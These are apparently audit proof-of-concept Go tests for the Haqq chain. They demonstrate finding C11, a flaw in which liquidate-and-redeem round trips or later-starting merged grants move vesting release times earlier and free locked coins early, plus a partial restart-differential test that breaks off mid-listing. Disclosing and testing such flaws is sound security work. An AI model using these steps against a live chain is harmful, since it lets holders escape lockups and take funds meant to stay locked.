	sink := sdk.AccAddress(tests.GenerateAddress().Bytes())
	foundation := sdk.AccAddress(tests.GenerateAddress().Bytes())
	dust := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1000))

	aliceStart := now.Add(-10 * time.Second)
	va := vestingtypes.NewClawbackVestingAccount(
		authtypes.NewBaseAccountWithAddress(alice), foundation, amount, aliceStart, lockupPeriods, vestingPeriods, nil,
	)
	suite.Require().NoError(testutil.FundAccount(ctx, suite.app.BankKeeper, alice, amount))
	suite.app.AccountKeeper.SetAccount(ctx, suite.app.AccountKeeper.NewAccount(ctx, va))
	firstUnlock := aliceStart.Add(100000 * time.Second)

	suite.Require().NoError(testutil.FundAccount(ctx, suite.app.BankKeeper, fred, amount.Add(dust...)))

	lresp, err := suite.app.LiquidVestingKeeper.Liquidate(sdk.WrapSDKContext(ctx), types.NewMsgLiquidate(alice, alice, amount[0]))
	suite.Require().NoError(err)
	liquid := lresp.Minted

	// Fred creates Bob with a dust grant that is already vested and unlocked.
	createMsg := vestingtypes.NewMsgCreateClawbackVestingAccount(
		fred, bob, now.Add(-10*time.Second), nil, sdkvesting.Periods{{Length: 1, Amount: dust}}, false,
	)
	suite.Require().NoError(createMsg.ValidateBasic())
	_, err = suite.app.VestingKeeper.CreateClawbackVestingAccount(sdk.WrapSDKContext(ctx), createMsg)
	suite.Require().NoError(err)
	bobAcc := suite.app.AccountKeeper.GetAccount(ctx, bob).(*vestingtypes.ClawbackVestingAccount)
	suite.Require().True(bobAcc.GetVestingCoins(ctx.BlockTime()).IsZero(), "Bob has no unvested coins at redeem time")

	// Alice redeems into Bob.
	cctx, write := ctx.CacheContext()
	_, err = suite.app.LiquidVestingKeeper.Redeem(sdk.WrapSDKContext(cctx), types.NewMsgRedeem(alice, bob, liquid))
	if err != nil {
		suite.T().Logf("redeem refused: %v", err)
		suite.Require().Equal("3000000", suite.app.BankKeeper.GetSupply(ctx, liquid.Denom).Amount.String())
		return
	}
	write()
	suite.Require().Equal("1000", suite.app.BankKeeper.SpendableCoins(ctx, bob).AmountOf("aISLM").String(), "only the dust is spendable right after the redeem")

	// Fred merges a 3_000_000 grant: no lockup, vests in ~4 months.
	mergeMsg := vestingtypes.NewMsgCreateClawbackVestingAccount(
		fred, bob, now.Add(-1*time.Second), nil, sdkvesting.Periods{{Length: 10_000_000, Amount: amount}}, true,
	)
	suite.Require().NoError(mergeMsg.ValidateBasic())
	cctx, write = ctx.CacheContext()
	_, err = suite.app.VestingKeeper.CreateClawbackVestingAccount(sdk.WrapSDKContext(cctx), mergeMsg)
	if err != nil {
		suite.T().Logf("merge refused: %v", err)
		return
	}
	write()

	ctx = ctx.WithBlockTime(now.Add(2 * time.Second)).WithBlockHeight(ctx.BlockHeight() + 1)
	spendable := suite.app.BankKeeper.SpendableCoins(ctx, bob).AmountOf("aISLM")
	sendErr := suite.app.BankKeeper.SendCoins(ctx, bob, sink, amount)
	_, clawErr := suite.app.VestingKeeper.Clawback(sdk.WrapSDKContext(ctx), vestingtypes.NewMsgClawback(fred, bob, fred))
	fredBal := suite.app.BankKeeper.GetBalance(ctx, fred, "aISLM").Amount
	sinkBal := suite.app.BankKeeper.GetBalance(ctx, sink, "aISLM").Amount
	bobBal := suite.app.BankKeeper.GetBalance(ctx, bob, "aISLM").Amount
	suite.T().Logf("t=now+2s, first original unlock at now+%ds: Bob spendable = %s; send 3000000 Bob->sink err = %v; clawback err = %v; balances: sink(free)=%s fred(free)=%s bob=%s",
		int64(firstUnlock.Sub(now).Seconds()), spendable, sendErr, clawErr, sinkBal, fredBal, bobBal)

	// Bob: 1000 free dust + 3_000_000 unvested (Fred) + 3_000_000 locked (Alice)
	suite.Require().Equal("1000", spendable.String(),
		"redeemed locked coins are spendable %s before their original first unlock", firstUnlock.Sub(ctx.BlockTime()))
	suite.Require().Error(sendErr, "locked redeemed coins could be transferred away")
}
