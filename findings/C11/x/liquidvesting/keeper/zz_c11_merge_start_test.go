package keeper_test

// Witness for finding C11 (liquid vesting): "redeeming returns exactly the
// redeemed amount under a schedule that releases nothing earlier than the
// original one did."
//
// Keeper.ApplyVestingSchedule (x/vesting/keeper/schedule.go), case
// `isClawback && merge`, hands min(grant start, account start) to addGrant as
// the GRANT's start time. addGrant forwards it to DisjunctPeriods, which
// interprets the grant's period lengths relative to that value. When the grant
// (the liquid denom) starts later than the target account, every release event
// of the redeemed coins is therefore moved earlier by (denom start - account
// start).
//
// Run (testify only, no ginkgo/gomega helpers are used):
//
//	go test ./x/liquidvesting/keeper/ -run TestKeeperTestSuite -testify.m TestZZC11 -v -count=1

import (
	"fmt"
	"sort"
	"strings"
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"

	"github.com/haqq-network/haqq/tests"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/liquidvesting/types"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

// c11ReleaseEvents renders the non-empty release events of a lockup schedule
// as offsets relative to `origin`, e.g. "+100000s:3000000aISLM".
func c11ReleaseEvents(origin int64, va *vestingtypes.ClawbackVestingAccount) string {
	at := map[int64]sdk.Coins{}
	t := va.StartTime.Unix()
	for _, p := range va.LockupPeriods {
		t += p.Length
		if p.Amount.IsZero() {
			continue
		}
		at[t] = at[t].Add(p.Amount...)
	}
	times := make([]int64, 0, len(at))
	for k := range at {
		times = append(times, k)
	}
	sort.Slice(times, func(i, j int) bool { return times[i] < times[j] })
	parts := make([]string, 0, len(times))
	for _, k := range times {
		parts = append(parts, fmt.Sprintf("%+ds:%s", k-origin, at[k]))
	}
	return strings.Join(parts, " ")
}

func (suite *KeeperTestSuite) c11ClawbackAccount(addr sdk.AccAddress) *vestingtypes.ClawbackVestingAccount {
	acc := suite.app.AccountKeeper.GetAccount(suite.ctx, addr)
	va, ok := acc.(*vestingtypes.ClawbackVestingAccount)
	suite.Require().True(ok, "account %s is not a clawback vesting account: %T", addr, acc)
	return va
}

// Holder A owns 3_000_000 aISLM locked until T0+100_000s. At T1 = T0+50_000s
// A liquidates 1_000_000 to B, and B redeems the liquid token back into A's
// (still existing, started at T0) clawback vesting account in the same block.
// The original schedule keeps all 3_000_000 locked until T0+100_000s, so the
// round trip must not make anything spendable at T1.
func (suite *KeeperTestSuite) TestZZC11RedeemIntoEarlierStartedVestingAccount() {
	suite.SetupTest()

	const (
		lockLen = int64(100_000)
		elapsed = int64(50_000)
	)
	now := time.Unix(suite.ctx.BlockTime().Unix(), 0).UTC()
	suite.ctx = suite.ctx.WithBlockTime(now)
	t0 := now.Add(-time.Duration(elapsed) * time.Second)

	holder := sdk.AccAddress(tests.GenerateAddress().Bytes())
	other := sdk.AccAddress(tests.GenerateAddress().Bytes())
	funder := sdk.AccAddress(types.ModuleName)

	total := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 3_000_000))
	part := sdk.NewInt64Coin("aISLM", 1_000_000)

	va := vestingtypes.NewClawbackVestingAccount(
		authtypes.NewBaseAccountWithAddress(holder), funder, total, t0,
		sdkvesting.Periods{{Length: lockLen, Amount: total}},
		sdkvesting.Periods{{Length: 0, Amount: total}},
		nil,
	)
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, holder, total))
	suite.app.AccountKeeper.SetAccount(suite.ctx, va)

	suite.Require().Equal("+100000s:3000000aISLM", c11ReleaseEvents(t0.Unix(), suite.c11ClawbackAccount(holder)))
	suite.Require().Equal(total.String(), suite.app.BankKeeper.LockedCoins(suite.ctx, holder).String())

	goCtx := sdk.WrapSDKContext(suite.ctx)

	// T1: liquidate one third to `other`
	_, err := suite.app.LiquidVestingKeeper.Liquidate(goCtx, types.NewMsgLiquidate(holder, other, part))
	suite.Require().NoError(err)

	denom, found := suite.app.LiquidVestingKeeper.GetDenom(suite.ctx, "aLIQUID0")
	suite.Require().True(found)
	suite.Require().Equal(now.Unix(), denom.StartTime.Unix(), "liquid denom starts at T1")
	suite.Require().Equal(t0.Unix()+lockLen, denom.EndTime.Unix(), "liquid denom keeps the original unlock time")
	suite.Require().Len(denom.LockupPeriods, 1)
	suite.Require().Equal(lockLen-elapsed, denom.LockupPeriods[0].Length)

	// T1: `other` redeems the liquid token into the holder's vesting account
	_, err = suite.app.LiquidVestingKeeper.Redeem(goCtx, types.NewMsgRedeem(other, holder, sdk.NewInt64Coin("aLIQUID0", 1_000_000)))
	suite.Require().NoError(err)

	merged := suite.c11ClawbackAccount(holder)
	suite.Require().Equal(total.String(), merged.OriginalVesting.String())
	suite.Require().Equal(total.String(), suite.app.BankKeeper.GetAllBalances(suite.ctx, holder).String())

	gotEvents := c11ReleaseEvents(t0.Unix(), merged)
	gotLockedUp := merged.GetLockedUpCoins(now)
	gotBankLocked := suite.app.BankKeeper.LockedCoins(suite.ctx, holder)
	gotSpendable := suite.app.BankKeeper.SpendableCoin(suite.ctx, holder, "aISLM")
	sendErr := suite.app.BankKeeper.SendCoins(suite.ctx, holder, other, sdk.NewCoins(part))

	// non-fatal assertions so that every wrong number is printed
	suite.Assert().Equal("+100000s:3000000aISLM", gotEvents,
		"lockup release events of the merged account (offsets from T0); the redeemed 1000000aISLM must be released at T1+50000s = T0+100000s")
	suite.Assert().Equal(total.String(), gotLockedUp.String(),
		"GetLockedUpCoins at T1 = T0+50000s, i.e. 50000s before the original unlock")
	suite.Assert().Equal(total.String(), gotBankLocked.String(), "bank LockedCoins at T1")
	suite.Assert().Equal("0aISLM", gotSpendable.String(), "bank SpendableCoin at T1")
	suite.Assert().Error(sendErr, "holder was able to transfer 1000000aISLM out at T1, 50000s before the original unlock time")
}

// The same defect lets the holder alone dissolve the whole lockup: every
// liquidate->redeem round trip into the own account moves the release time
// earlier by (now - T0). Holder A has 3_000_000 aISLM locked until
// T0+100_000s; at T1 = T0+10_000s A runs nine self round trips in one block.
func (suite *KeeperTestSuite) TestZZC11SelfRoundTripsKeepLockup() {
	suite.SetupTest()

	const (
		lockLen = int64(100_000)
		elapsed = int64(10_000)
		rounds  = 9
	)
	now := time.Unix(suite.ctx.BlockTime().Unix(), 0).UTC()
	suite.ctx = suite.ctx.WithBlockTime(now)
	t0 := now.Add(-time.Duration(elapsed) * time.Second)

	holder := sdk.AccAddress(tests.GenerateAddress().Bytes())
	funder := sdk.AccAddress(types.ModuleName)
	total := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 3_000_000))

	va := vestingtypes.NewClawbackVestingAccount(
		authtypes.NewBaseAccountWithAddress(holder), funder, total, t0,
		sdkvesting.Periods{{Length: lockLen, Amount: total}},
		sdkvesting.Periods{{Length: 0, Amount: total}},
		nil,
	)
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, holder, total))
	suite.app.AccountKeeper.SetAccount(suite.ctx, va)

	goCtx := sdk.WrapSDKContext(suite.ctx)
	trace := []string{"start: " + c11ReleaseEvents(t0.Unix(), suite.c11ClawbackAccount(holder))}
	for i := 0; i < rounds; i++ {
		_, err := suite.app.LiquidVestingKeeper.Liquidate(goCtx, types.NewMsgLiquidate(holder, holder, total[0]))
		suite.Require().NoError(err, "liquidate round %d", i)
		liquid := sdk.NewCoin(types.DenomBaseNameFromID(uint64(i)), total[0].Amount)
		_, err = suite.app.LiquidVestingKeeper.Redeem(goCtx, types.NewMsgRedeem(holder, holder, liquid))
		suite.Require().NoError(err, "redeem round %d", i)
		trace = append(trace, fmt.Sprintf("round %d: %s", i+1, c11ReleaseEvents(t0.Unix(), suite.c11ClawbackAccount(holder))))
	}
	history := strings.Join(trace, "\n")

	merged := suite.c11ClawbackAccount(holder)
	suite.Assert().Equal("+100000s:3000000aISLM", c11ReleaseEvents(t0.Unix(), merged),
		"release events (offsets from T0) after %d self round trips at T0+10000s; history:\n%s", rounds, history)
	suite.Assert().Equal(total.String(), merged.GetLockedUpCoins(now).String(),
		"GetLockedUpCoins at T0+10000s, 90000s before the original unlock; history:\n%s", history)
	suite.Assert().Equal("0aISLM", suite.app.BankKeeper.SpendableCoin(suite.ctx, holder, "aISLM").String(),
		"bank SpendableCoin at T0+10000s")
}
