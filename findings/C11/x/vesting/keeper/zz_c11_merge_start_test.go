package keeper_test

// Unit-level witness for finding C11: Keeper.ApplyVestingSchedule, case
// `isClawback && merge`, passes min(grant start, account start) to addGrant as
// the grant's own start time, so a grant that starts LATER than the existing
// account has all its release events moved earlier by (grant start - account
// start).
//
// Run (testify only):
//
//	go test ./x/vesting/keeper/ -run TestKeeperTestSuite -testify.m TestZZC11 -v -count=1

import (
	"fmt"
	"strings"
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"

	"github.com/haqq-network/haqq/tests"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/vesting/types"
)

// c11Events renders a schedule as absolute events relative to `origin`.
func c11Events(origin, start int64, periods sdkvesting.Periods) string {
	parts := make([]string, 0, len(periods))
	t := start
	for _, p := range periods {
		t += p.Length
		parts = append(parts, fmt.Sprintf("%+ds:%s", t-origin, p.Amount))
	}
	return strings.Join(parts, " ")
}

func (suite *KeeperTestSuite) c11Existing(addr, funderAddr sdk.AccAddress, start time.Time) {
	coins := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1000))
	va := types.NewClawbackVestingAccount(
		authtypes.NewBaseAccountWithAddress(addr), funderAddr, coins, start,
		sdkvesting.Periods{{Length: 5000, Amount: coins}},
		sdkvesting.Periods{{Length: 0, Amount: coins}},
		nil,
	)
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, addr, coins))
	suite.app.AccountKeeper.SetAccount(suite.ctx, va)
}

// Existing account: start T0, 1000 locked until T0+5000.
// New grant:        start T1 = T0+4000, 500 locked until T1+5000 = T0+9000.
func (suite *KeeperTestSuite) TestZZC11ApplyVestingScheduleMergeLaterGrant() {
	suite.SetupTest()
	now := time.Unix(suite.ctx.BlockTime().Unix(), 0).UTC()
	suite.ctx = suite.ctx.WithBlockTime(now)
	t0 := now.Add(-4000 * time.Second)
	t1 := now

	target := sdk.AccAddress(tests.GenerateAddress().Bytes())
	fnd := sdk.AccAddress(tests.GenerateAddress().Bytes())
	suite.c11Existing(target, fnd, t0)

	grant := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 500))
	va, created, merged, err := suite.app.VestingKeeper.ApplyVestingSchedule(
		suite.ctx, fnd, target, grant, t1,
		sdkvesting.Periods{{Length: 5000, Amount: grant}},
		sdkvesting.Periods{{Length: 0, Amount: grant}},
		true,
	)
	suite.Require().NoError(err)
	suite.Require().False(created)
	suite.Require().True(merged)

	suite.Assert().Equal(t0.Unix(), va.StartTime.Unix(), "merged account start")
	suite.Assert().Equal("+5000s:1000aISLM +9000s:500aISLM", c11Events(t0.Unix(), va.StartTime.Unix(), va.LockupPeriods),
		"merged lockup events (offsets from T0); the grant's 500aISLM must be released at T1+5000s = T0+9000s")
	suite.Assert().Equal("+0s:1000aISLM +4000s:500aISLM", c11Events(t0.Unix(), va.StartTime.Unix(), va.VestingPeriods),
		"merged vesting events (offsets from T0); the grant's 500aISLM vest at T1+0s = T0+4000s")
	suite.Assert().Equal(t0.Unix()+9000, va.EndTime, "merged account end time")
	// T0+6000: account's own 1000 unlocked, grant's 500 must still be locked (until T0+9000)
	suite.Assert().Equal("500aISLM", va.GetLockedUpCoins(t0.Add(6000*time.Second)).String(), "GetLockedUpCoins at T0+6000s")
}

// Second caller: MsgConvertIntoVestingAccount with merge=true and a start time
// later than the existing account's.
func (suite *KeeperTestSuite) TestZZC11ConvertIntoVestingAccountMergeLaterGrant() {
	suite.SetupTest()
	now := time.Unix(suite.ctx.BlockTime().Unix(), 0).UTC()
	suite.ctx = suite.ctx.WithBlockTime(now)
	t0 := now.Add(-5000 * time.Second)
	t1 := now

	target := sdk.AccAddress(tests.GenerateAddress().Bytes())
	fnd := sdk.AccAddress(tests.GenerateAddress().Bytes())
	suite.c11Existing(target, fnd, t0)

	grant := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 500))
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, fnd, grant))

	msg := types.NewMsgConvertIntoVestingAccount(
		fnd, target, t1,
		sdkvesting.Periods{{Length: 5000, Amount: grant}},
		sdkvesting.Periods{{Length: 0, Amount: grant}},
		true, false, sdk.ValAddress{},
	)
	_, err := suite.app.VestingKeeper.ConvertIntoVestingAccount(sdk.WrapSDKContext(suite.ctx), msg)
	suite.Require().NoError(err)

	va, ok := suite.app.AccountKeeper.GetAccount(suite.ctx, target).(*types.ClawbackVestingAccount)
	suite.Require().True(ok)

	// at T1 = T0+5000 the account's own 1000 are unlocked; the new 500 are locked until T1+5000
	suite.Assert().Equal("+5000s:1000aISLM +10000s:500aISLM", c11Events(t0.Unix(), va.StartTime.Unix(), va.LockupPeriods),
		"merged lockup events (offsets from T0); the grant's 500aISLM must be released at T1+5000s = T0+10000s")
	suite.Assert().Equal("500aISLM", va.GetLockedUpCoins(now).String(), "GetLockedUpCoins at T1")
	suite.Assert().Equal("500aISLM", suite.app.BankKeeper.LockedCoins(suite.ctx, target).String(), "bank LockedCoins at T1")
	suite.Assert().Equal("1000aISLM", suite.app.BankKeeper.SpendableCoin(suite.ctx, target, "aISLM").String(), "bank SpendableCoin at T1")
}

// Control for the repair: a grant that starts EARLIER than the existing
// account. Passes before and after the repair (min(T1,T0) == T1 here), and
// pins that the merged account start moves back to the grant start while the
// account's own events keep their absolute time.
func (suite *KeeperTestSuite) TestZZC11ApplyVestingScheduleMergeEarlierGrant() {
	suite.SetupTest()
	now := time.Unix(suite.ctx.BlockTime().Unix(), 0).UTC()
	suite.ctx = suite.ctx.WithBlockTime(now)
	t0 := now                          // existing account start
	t1 := now.Add(-4000 * time.Second) // grant start, earlier
	target := sdk.AccAddress(tests.GenerateAddress().Bytes())
	fnd := sdk.AccAddress(tests.GenerateAddress().Bytes())
	suite.c11Existing(target, fnd, t0)

	grant := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 500))
	va, _, merged, err := suite.app.VestingKeeper.ApplyVestingSchedule(
		suite.ctx, fnd, target, grant, t1,
		sdkvesting.Periods{{Length: 5000, Amount: grant}},
		sdkvesting.Periods{{Length: 0, Amount: grant}},
		true,
	)
	suite.Require().NoError(err)
	suite.Require().True(merged)

	suite.Assert().Equal(t1.Unix(), va.StartTime.Unix(), "merged account start = earlier grant start")
	// offsets from the account's original T0: grant at T1+5000 = T0+1000, account at T0+5000
	suite.Assert().Equal("+1000s:500aISLM +5000s:1000aISLM", c11Events(t0.Unix(), va.StartTime.Unix(), va.LockupPeriods))
	suite.Assert().Equal("-4000s:500aISLM +0s:1000aISLM", c11Events(t0.Unix(), va.StartTime.Unix(), va.VestingPeriods))
	suite.Assert().Equal(t0.Unix()+5000, va.EndTime)
}
