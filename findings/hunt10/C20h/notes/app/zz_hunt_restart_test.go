package app_test

import (
	"bytes"
	"fmt"
	"math/big"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	upgradetypes "github.com/cosmos/cosmos-sdk/x/upgrade/types"
	"encoding/json"

	"github.com/cosmos/cosmos-sdk/codec"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/common/hexutil"
	coinomicstypes "github.com/haqq-network/haqq/x/coinomics/types"
	epochstypes "github.com/haqq-network/haqq/x/epochs/types"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/contracts"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/testutil"
	testtx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

const zzChainID = utils.TestEdge2ChainID + "-3"

func zzCloneDB(t *testing.T, src dbm.DB) dbm.DB {
	dst := dbm.NewMemDB()
	it, err := src.Iterator(nil, nil)
	require.NoError(t, err)
	defer it.Close()
	for ; it.Valid(); it.Next() {
		k := append([]byte{}, it.Key()...)
		v := append([]byte{}, it.Value()...)
		require.NoError(t, dst.Set(k, v))
	}
	return dst
}

func zzOpen(db dbm.DB) *app.Haqq {
	return app.NewHaqq(log.NewNopLogger(), db, nil, true, map[int64]bool{}, app.DefaultNodeHome, 5,
		encoding.MakeConfig(app.ModuleBasics), simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome),
		baseapp.SetChainID(zzChainID))
}

type zzBlock struct {
	txs  [][]byte
	hook func(ctx sdk.Context, a *app.Haqq) string // state change made "by governance" inside the block
}

func zzRun(a *app.Haqq, header tmproto.Header, votes []abci.VoteInfo, b zzBlock) (out []string, hash []byte) {
	a.BeginBlock(abci.RequestBeginBlock{Header: header, LastCommitInfo: abci.CommitInfo{Votes: votes}})
	if b.hook != nil {
		ctx := a.BaseApp.NewContext(false, header)
		out = append(out, "hook: "+b.hook(ctx, a))
	}
	for _, bz := range b.txs {
		r := a.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: bz})
		if rs, err := testutil.CheckEthTxResponse(r, encoding.MakeConfig(app.ModuleBasics).Codec); err != nil {
			out = append(out, fmt.Sprintf("VMERR %v", err))
		} else if len(rs) > 0 {
			out = append(out, fmt.Sprintf("ok ret=%x", rs[0].Ret))
		}
		out = append(out, fmt.Sprintf("code=%d gasUsed=%d gasWanted=%d data=%x log=%s events=%d", r.Code, r.GasUsed, r.GasWanted, r.Data, r.Log, len(r.Events)))
	}
	eb := a.EndBlock(abci.RequestEndBlock{Height: header.Height})
	out = append(out, fmt.Sprintf("endblock: valupdates=%d events=%d", len(eb.ValidatorUpdates), len(eb.Events)))
	c := a.Commit()
	return out, c.Data
}

func TestZZRestartDifferential(t *testing.T) {
	db := dbm.NewMemDB()
	a := app.EthSetupWithDB(false, nil, db)

	addr, priv := testtx.NewAddrKey()
	addr2, _ := testtx.NewAddrKey()
	txCfg := encoding.MakeConfig(app.ModuleBasics).TxConfig

	// fund in the InitChain state (committed with block 1)
	h0 := tmproto.Header{ChainID: zzChainID, Height: 1, Time: time.Unix(1_700_000_000, 0).UTC()}
	ictx := a.BaseApp.NewContext(false, h0)
	big1e24, _ := sdkmath.NewIntFromString("1000000000000000000000000")
	require.NoError(t, testutil.FundAccount(ictx, a.BankKeeper, addr.Bytes(), sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, big1e24), sdk.NewCoin("acoin", sdkmath.NewInt(1_000_000)))))
	sp := a.StakingKeeper.GetParams(ictx)
	sp.BondDenom = utils.BaseDenom
	require.NoError(t, a.StakingKeeper.SetParams(ictx, sp))
	require.NoError(t, testutil.FundModuleAccount(ictx, a.BankKeeper, "bonded_tokens_pool", sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdk.DefaultPowerReduction))))
	vals := a.StakingKeeper.GetAllValidators(ictx)
	require.NotEmpty(t, vals)
	cons, err := vals[0].GetConsAddr()
	require.NoError(t, err)
	valAddr := vals[0].OperatorAddress
	var votes []abci.VoteInfo

	nonce := uint64(0)
	ethTx := func(to *common.Address, amount int64, gas uint64, input []byte) []byte {
		msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
			ChainID: a.EvmKeeper.ChainID(), Nonce: nonce, To: to, Amount: big.NewInt(amount),
			GasLimit: gas, GasPrice: big.NewInt(100_000_000_000), Input: input,
		})
		msg.From = addr.Hex()
		tx, err := testtx.PrepareEthTx(txCfg, a, priv, msg)
		require.NoError(t, err)
		bz, err := txCfg.TxEncoder()(tx)
		require.NoError(t, err)
		nonce++
		return bz
	}

	curHeader := h0
	cosmosTx := func(msgs ...sdk.Msg) []byte {
		cctx := a.BaseApp.NewContext(true, curHeader)
		gp := sdkmath.NewInt(100_000_000_000)
		tx, err := testtx.PrepareCosmosTx(cctx, a, testtx.CosmosTxArgs{TxCfg: txCfg, Priv: priv, ChainID: zzChainID, Gas: 2_000_000, GasPrice: &gp, Msgs: msgs}, signing.SignMode_SIGN_MODE_DIRECT)
		require.NoError(t, err)
		bz, err := txCfg.TxEncoder()(tx)
		require.NoError(t, err)
		nonce++
		return bz
	}

	erc20ABI := contracts.ERC20MinterBurnerDecimalsContract.ABI
	ctorArgs, err := erc20ABI.Pack("", "Tok", "TOK", uint8(18))
	require.NoError(t, err)
	deployData := append(append([]byte{}, contracts.ERC20MinterBurnerDecimalsContract.Bin...), ctorArgs...)
	tokenAddr := crypto.CreateAddress(addr, 1) // nonce 1 is the deployment
	mintData, err := erc20ABI.Pack("mint", addr, big.NewInt(1000))
	require.NoError(t, err)
	transferData, err := erc20ABI.Pack("transfer", addr2, big.NewInt(10))
	require.NoError(t, err)

	stk, err := staking.NewPrecompile(a.StakingKeeper, a.AuthzKeeper)
	require.NoError(t, err)
	stakingAddr := stk.Address()
	delegateData, err := stk.ABI.Pack("delegate", addr, valAddr, big.NewInt(1_000_000_000_000))
	require.NoError(t, err)

	var coinPairContract common.Address

	blocks := map[int64]func() zzBlock{
		2: func() zzBlock { return zzBlock{txs: [][]byte{ethTx(&addr2, 12345, 21000, nil)}} },
		3: func() zzBlock { return zzBlock{txs: [][]byte{ethTx(nil, 0, 9_000_000, deployData)}} },
		4: func() zzBlock { return zzBlock{txs: [][]byte{ethTx(&tokenAddr, 0, 200_000, mintData)}} },
		5: func() zzBlock {
			return zzBlock{hook: func(ctx sdk.Context, x *app.Haqq) string {
				p, err := x.Erc20Keeper.RegisterERC20(ctx, tokenAddr)
				return fmt.Sprintf("%v %v", p, err)
			}}
		},
		6: func() zzBlock { return zzBlock{txs: [][]byte{ethTx(&tokenAddr, 0, 200_000, transferData)}} },
		7: func() zzBlock {
			return zzBlock{hook: func(ctx sdk.Context, x *app.Haqq) string {
				md := banktypes.Metadata{
					Description: "c", Base: "acoin", Display: "coin", Name: "coin", Symbol: "COIN",
					DenomUnits: []*banktypes.DenomUnit{{Denom: "acoin", Exponent: 0}, {Denom: "coin", Exponent: 18}},
				}
				p, err := x.Erc20Keeper.RegisterCoin(ctx, md)
				if err == nil {
					coinPairContract = p.GetERC20Contract()
				}
				return fmt.Sprintf("%v %v", p, err)
			}}
		},
		8: func() zzBlock { return zzBlock{txs: [][]byte{ethTx(&stakingAddr, 0, 500_000, delegateData)}} },
		9: func() zzBlock {
			return zzBlock{hook: func(ctx sdk.Context, x *app.Haqq) string {
				p := x.EvmKeeper.GetParams(ctx)
				p.ExtraEIPs = append(p.ExtraEIPs, 2200)
				p.ActivePrecompiles = p.ActivePrecompiles[:len(p.ActivePrecompiles)-1]
				return fmt.Sprintf("%v", x.EvmKeeper.SetParams(ctx, p))
			}}
		},
		10: func() zzBlock {
			return zzBlock{txs: [][]byte{
				ethTx(&tokenAddr, 0, 200_000, transferData),
				ethTx(&stakingAddr, 0, 500_000, delegateData),
				ethTx(&coinPairContract, 0, 200_000, transferData),
			}}
		},
		11: func() zzBlock {
			return zzBlock{hook: func(ctx sdk.Context, x *app.Haqq) string {
				p := x.EvmKeeper.GetParams(ctx)
				p.ExtraEIPs = p.ExtraEIPs[:len(p.ExtraEIPs)-1]
				return fmt.Sprintf("%v", x.EvmKeeper.SetParams(ctx, p))
			}}
		},
		12: func() zzBlock { return zzBlock{txs: [][]byte{ethTx(&tokenAddr, 0, 200_000, transferData)}} },
		13: func() zzBlock {
			return zzBlock{txs: [][]byte{cosmosTx(erc20types.NewMsgConvertCoin(sdk.NewCoin("acoin", sdkmath.NewInt(500)), addr, addr.Bytes()))}}
		},
		14: func() zzBlock {
			return zzBlock{txs: [][]byte{cosmosTx(erc20types.NewMsgConvertERC20(sdkmath.NewInt(100), addr2.Bytes(), tokenAddr, addr))}}
		},
		15: func() zzBlock {
			return zzBlock{txs: [][]byte{
				cosmosTx(banktypes.NewMsgSend(addr.Bytes(), addr2.Bytes(), sdk.NewCoins(sdk.NewCoin("acoin", sdkmath.NewInt(7))))),
				ethTx(&coinPairContract, 0, 300_000, transferData),
			}}
		},
		16: func() zzBlock {
			va, _ := sdk.ValAddressFromBech32(valAddr)
			return zzBlock{txs: [][]byte{cosmosTx(stakingtypes.NewMsgUndelegate(addr.Bytes(), va, sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(1000))))}}
		},
		19: func() zzBlock {
			return zzBlock{hook: func(ctx sdk.Context, x *app.Haqq) string {
				return fmt.Sprintf("%v", x.UpgradeKeeper.ScheduleUpgrade(ctx, upgradetypes.Plan{Name: "v1.8.2", Height: 20}))
			}}
		},
		22: func() zzBlock { return zzBlock{txs: [][]byte{ethTx(&tokenAddr, 0, 200_000, transferData), ethTx(&stakingAddr, 0, 500_000, delegateData)}} },
		18: func() zzBlock {
